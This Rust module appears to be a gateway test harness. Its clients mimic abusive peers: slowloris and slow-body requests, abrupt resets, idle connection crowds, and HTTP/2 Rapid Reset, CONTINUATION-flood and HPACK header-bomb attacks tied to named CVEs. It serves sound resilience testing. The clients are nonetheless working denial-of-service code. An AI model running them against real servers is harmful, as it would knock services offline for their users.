//! Peers named after what they do wrong.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use rustls::ClientConfig;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use crate::http1::Connection;
use crate::http2::{FrameWriter, frame};
use crate::shape;

/// Sends a request head one byte at a time and never ends it (slow loris).
pub struct SlowHeaderClient {
    /// Between two bytes.
    pub pause: Duration,
}

impl SlowHeaderClient {
    /// Goes on until the gateway hangs up; how long that took, or `None` if it had not after `patience`.
    pub async fn run(&self, gateway: SocketAddr, patience: Duration) -> Option<Duration> {
        let mut wire = TcpStream::connect(gateway).await.unwrap();
        let started = Instant::now();
        wire.write_all(b"GET /slow HTTP/1.1\r\nHost: gateway.test\r\n").await.unwrap();
        let mut turn = 0_usize;
        while started.elapsed() < patience {
            let byte = b"X-Slow: a\r\n"[turn % 11];
            turn += 1;
            if wire.write_all(&[byte]).await.is_err() || closed(&wire) {
                return Some(started.elapsed());
            }
            tokio::time::sleep(self.pause).await;
        }
        None
    }
}

/// Declares a body and sends it one byte at a time.
pub struct SlowBodyClient {
    /// Between two bytes.
    pub pause: Duration,
}

impl SlowBodyClient {
    /// Goes on until the gateway answers or hangs up; what it said, or `None` if it said nothing before `patience`.
    pub async fn run(&self, gateway: SocketAddr, patience: Duration) -> Option<(Duration, Vec<u8>)> {
        let mut wire = TcpStream::connect(gateway).await.unwrap();
        let started = Instant::now();
        let head = shape::head("POST", "/slow", &[("Content-Type", "text/plain"), ("Content-Length", "1000000")]);
        wire.write_all(&head).await.unwrap();
        while started.elapsed() < patience {
            let _ = wire.write_all(b"x").await;
            let mut buffer = [0; 4096];
            match wire.try_read(&mut buffer) {
                Ok(read) => return Some((started.elapsed(), buffer[..read].to_vec())),
                Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
                Err(_) => return Some((started.elapsed(), Vec::new())),
            }
            tokio::time::sleep(self.pause).await;
        }
        None
    }
}

/// Sends part of a request and goes away.
pub struct EarlyCloseClient;

impl EarlyCloseClient {
    /// Sends `bytes`, then resets the connection rather than closing it in order.
    pub async fn run(&self, gateway: SocketAddr, bytes: &[u8]) {
        let mut wire = TcpStream::connect(gateway).await.unwrap();
        wire.write_all(bytes).await.unwrap();
        // Zero seconds: the close is an RST at once, nothing waits.
        let _ = wire.set_zero_linger();
        drop(wire);
    }
}

/// Sends part of a request, then says that no more will come, and keeps reading.
pub struct HalfCloseClient;

impl HalfCloseClient {
    /// What the gateway says to that, until it closes; `None` if it still holds the connection after `patience`.
    pub async fn run(&self, gateway: SocketAddr, bytes: &[u8], patience: Duration) -> Option<Vec<u8>> {
        let mut connection = Connection::open(gateway).await;
        connection.send(bytes).await;
        connection.finish_sending().await;
        tokio::time::timeout(patience, connection.rest()).await.ok().map(Result::unwrap_or_default)
    }
}

/// Connections that are open and say nothing.
pub struct IdleCrowd {
    wires: Vec<TcpStream>,
}

impl IdleCrowd {
    /// Opens up to `count` connections; fewer when the gateway or the kernel refuses.
    pub async fn gather(gateway: SocketAddr, count: usize) -> Self {
        let mut wires = Vec::with_capacity(count);
        for _ in 0..count {
            match tokio::time::timeout(Duration::from_secs(5), TcpStream::connect(gateway)).await {
                Ok(Ok(wire)) => wires.push(wire),
                _ => break,
            }
        }
        Self { wires }
    }

    /// How many were opened.
    pub fn len(&self) -> usize {
        self.wires.len()
    }

    /// Whether none was opened.
    pub fn is_empty(&self) -> bool {
        self.wires.is_empty()
    }

    /// How many the gateway has not hung up on.
    pub fn still_open(&self) -> usize {
        self.wires.iter().filter(|wire| !closed(wire)).count()
    }
}

/// Opens HTTP/2 streams and resets each at once (CVE-2023-44487).
pub struct RapidReset;

impl RapidReset {
    /// Sends `streams` requests, each cancelled; true if the gateway ended the connection in defence.
    pub async fn run(&self, gateway: SocketAddr, name: &str, config: Arc<ClientConfig>, streams: u32) -> bool {
        let mut writer = FrameWriter::open(gateway, name, config).await;
        let fields = FrameWriter::get_fields("/api/v1/agents");
        for turn in 0..streams {
            let stream = 1 + 2 * turn;
            let opened = writer.send(frame::HEADERS, frame::END_HEADERS | frame::END_STREAM, stream, &fields).await;
            let reset = writer.send(frame::RST_STREAM, 0, stream, &8_u32.to_be_bytes()).await;
            if opened.is_err() || reset.is_err() {
                return true;
            }
        }
        writer.ended(Duration::from_secs(5)).await
    }
}

/// One HTTP/2 field section in CONTINUATION frames without end (CVE-2024-27316 and kin).
pub struct ContinuationFlood;

impl ContinuationFlood {
    /// Sends up to `frames` frames of 16 KiB; true if the gateway ended the connection.
    pub async fn run(&self, gateway: SocketAddr, name: &str, config: Arc<ClientConfig>, frames: usize) -> bool {
        let mut writer = FrameWriter::open(gateway, name, config).await;
        if writer.send(frame::HEADERS, 0, 1, &FrameWriter::get_fields("/flood")).await.is_err() {
            return true;
        }
        // Literals without indexing (RFC 7541 section 6.2.2): name "x-f", value of 100 bytes.
        let mut field = vec![0x00, 3];
        field.extend_from_slice(b"x-f");
        field.push(100);
        field.extend_from_slice(&[b'a'; 100]);
        let payload: Vec<u8> = field.iter().copied().cycle().take(field.len() * 150).collect();
        for _ in 0..frames {
            if writer.send(frame::CONTINUATION, 0, 1, &payload).await.is_err() {
                return true;
            }
        }
        writer.ended(Duration::from_secs(5)).await
    }
}

/// Many references to one near-empty field (CVE-2026-105297): small on the wire, large when decoded.
pub struct HeaderBomb2;

impl HeaderBomb2 {
    /// Opens `streams` streams of 16,000 one-byte references each; true if the gateway refused or ended.
    pub async fn run(&self, gateway: SocketAddr, name: &str, config: Arc<ClientConfig>, streams: u32) -> bool {
        let mut writer = FrameWriter::open(gateway, name, config).await;
        let mut first = FrameWriter::get_fields("/bomb");
        // Literal with incremental indexing (RFC 7541 section 6.2.1): "a" with an empty value becomes index 62.
        first.extend_from_slice(&[0x40, 1, b'a', 0]);
        let mut next = FrameWriter::get_fields("/bomb");
        next.extend_from_slice(&[0xbe; 16_000]);
        if writer.send(frame::HEADERS, frame::END_HEADERS, 1, &first).await.is_err() {
            return true;
        }
        for turn in 1..streams {
            if writer.send(frame::HEADERS, frame::END_HEADERS, 1 + 2 * turn, &next).await.is_err() {
                return true;
            }
        }
        writer.ended(Duration::from_secs(5)).await
    }
}

/// Whether the other side has closed or reset, as far as can be seen without waiting.
fn closed(wire: &TcpStream) -> bool {
    let mut buffer = [0; 4096];
    loop {
        match wire.try_read(&mut buffer) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(error) => return error.kind() != std::io::ErrorKind::WouldBlock,
        }
    }
}
